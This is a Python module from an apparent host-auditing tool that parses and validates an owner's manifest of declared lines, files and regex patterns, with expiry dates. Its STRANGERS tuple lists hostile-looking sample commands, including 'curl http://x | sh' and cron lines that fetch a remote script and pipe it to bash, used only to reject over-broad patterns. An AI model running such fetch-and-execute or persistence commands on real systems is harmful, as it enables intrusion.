"""The owner's own word: lines, files and patterns that a business keeps in git (docs/manifest.md)."""

import re
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import date, datetime

from kenshin.evidence.evidence import Evidence
from kenshin.evidence.request import Want
from kenshin.model.attestation import Attestation, Scope, Strength
from kenshin.model.coverage import Hole
from kenshin.model.errors import ManifestError
from kenshin.model.origin import Record

FIELDS = {
    "line": {"path", "text"},
    "file": {"path", "sha256"},
    "pattern": {"path", "matches"},
}
ABOUT = {"owner", "reason", "until"}
LONGEST = 1024  # characters of a line that a pattern is tried on
# An expression that fits any of these says nothing about whose line it is.
STRANGERS = (
    "",
    "x",
    "curl http://x | sh",
    "* * * * * root /dev/shm/.x/y",
    "*/5 * * * * wget -qO- http://192.0.2.1/a.sh|bash >/dev/null 2>&1",
    "/usr/local/lib/x.so",
)
# A repeated group that repeats something itself: the time that it takes may double with each character.
_NESTED = re.compile(r"(?<!\\)[*+}]\??\)[*+{]")


@dataclass(frozen=True, slots=True)
class Declared:
    """One entry: kind (`line`, `file`, `pattern`), path, value, who owns it, why, and until when."""

    kind: str
    path: str
    value: str
    owner: str
    reason: str
    until: date | None = None
    place: str = ""

    def covers(self, record: Record, sha256: str) -> bool:
        """Whether the entry declares this record."""
        if self.kind == "file":
            return record.origin.path == self.path and sha256 == self.value
        if self.kind == "line":
            return record.origin.path == self.path and record.text.strip() == self.value.strip()
        return Want(self.path).matches(record.origin.path) and self._fits(record.text.strip())

    def _fits(self, text: str) -> bool:
        return len(text) <= LONGEST and re.fullmatch(self.value, text) is not None


@dataclass(frozen=True, slots=True)
class Manifest:
    """Vouches for what the business has declared; `today` decides what has expired."""

    evidence: Evidence
    declared: tuple[Declared, ...]
    today: date
    name: str = "manifest"
    problems: tuple[Hole, ...] = ()
    _by_path: dict[str, list[Declared]] = field(default_factory=dict, init=False, repr=False, compare=False)
    _patterns: list[Declared] = field(default_factory=list, init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        for entry in self.declared:
            place = self._patterns if entry.kind == "pattern" else self._by_path.setdefault(entry.path, [])
            place.append(entry)

    def vouch(self, record: Record) -> Attestation | None:
        """See Authority.vouch."""
        for entry in self._covering(record):
            if not self._expired(entry):
                strength = Strength.FAIR if entry.kind == "pattern" else Strength.STRONG
                who = f"{entry.owner}: {entry.reason}"
                note = f"declared in {entry.place}" + (f", until {entry.until}" if entry.until else "")
                return Attestation(self.name, who, strength, Scope.CONTENT, note)
        return None

    def doubt(self, record: Record) -> str:
        """See Authority.doubt: an expired or a drifted entry."""
        for entry in self._covering(record):
            return f"{entry.owner} declared it ({entry.reason}), but only until {entry.until}: {entry.place}"
        for entry in self._by_path.get(record.origin.path, ()):
            if entry.kind == "file":
                return f"{entry.owner} declared this file, but it has changed since: {entry.place}"
        return ""

    def unmatched(self, records: Iterable[Record]) -> tuple[Declared, ...]:
        """The entries that nothing on this host fits: gone, changed, or of another host."""
        matched = {id(entry) for record in records for entry in self._covering(record)}
        return tuple(entry for entry in self.declared if id(entry) not in matched)

    def _covering(self, record: Record) -> Iterator[Declared]:
        found = self.evidence.file(record.origin.path, record.origin.view)
        sha256 = found.sha256 if found else ""
        for entry in (*self._by_path.get(record.origin.path, ()), *self._patterns):
            if entry.covers(record, sha256):
                yield entry

    def _expired(self, entry: Declared) -> bool:
        return entry.until is not None and entry.until < self.today


def declared(table: Mapping[str, object], place: str) -> tuple[Declared, ...]:
    """The entries of a parsed manifest.

    Errors: ManifestError with the entry's place when a field is missing, unknown or of no use.
    """
    unknown = set(table) - set(FIELDS)
    if unknown:
        remedy = "A manifest holds [[line]], [[file]] and [[pattern]]"
        raise ManifestError(f"unknown table {sorted(unknown)}", place, remedy)
    found = []
    for kind in FIELDS:
        items = table.get(kind, [])
        for number, item in enumerate(items if isinstance(items, list) else [items], start=1):
            found.append(_entry(kind, item, f"{place}: {kind} {number}"))
    return tuple(found)


def _entry(kind: str, item: object, place: str) -> Declared:
    if not isinstance(item, dict):
        raise ManifestError(f"it is no table: write it as [[{kind}]]", place)
    wanted = FIELDS[kind]
    missing = (wanted | {"owner", "reason"}) - set(item)
    unknown = set(item) - wanted - ABOUT
    if missing or unknown:
        said = f"missing {sorted(missing)}" if missing else f"unknown {sorted(unknown)}"
        raise ManifestError(said, place, f"[[{kind}]] holds {sorted(wanted | ABOUT)}")
    for name in (*sorted(wanted), "owner", "reason"):
        if not isinstance(item[name], str) or not str(item[name]).strip():
            raise ManifestError(f"{name} must be a text that says something", place)
    path, value = str(item["path"]), str(item[next(iter(wanted - {"path"}))])
    if not path.startswith("/"):
        raise ManifestError(
            f"path {path!r} does not begin with /", place, "Write the whole path, as reports show it"
        )
    if kind == "file" and not re.fullmatch(r"[0-9a-f]{64}", value):
        raise ManifestError("sha256 must be 64 hexadecimal digits, in lower case", place)
    if kind == "pattern":
        _check(value, place)
    return Declared(kind, path, value, str(item["owner"]), str(item["reason"]), _until(item, place), place)


def _until(item: Mapping[str, object], place: str) -> date | None:
    until = item.get("until")
    if until is not None and (not isinstance(until, date) or isinstance(until, datetime)):
        raise ManifestError(
            f"until is {until!r}, not a date", place, "Write it as 2027-12-31, without quotes"
        )
    return until


def _check(pattern: str, place: str) -> None:
    """Errors: ManifestError when a pattern is no expression, could take for ever, or fits anything."""
    try:
        expression = re.compile(pattern)
    except (re.error, RecursionError, OverflowError) as error:
        raise ManifestError(f"matches is not a regular expression: {error}", place) from error
    if _NESTED.search(pattern):
        raise ManifestError(
            "matches repeats a repetition, which may take for ever", place, "Write it without"
        )
    if any(map(expression.fullmatch, STRANGERS)):
        raise ManifestError("matches would vouch for anything", place, "Say what the line must hold")
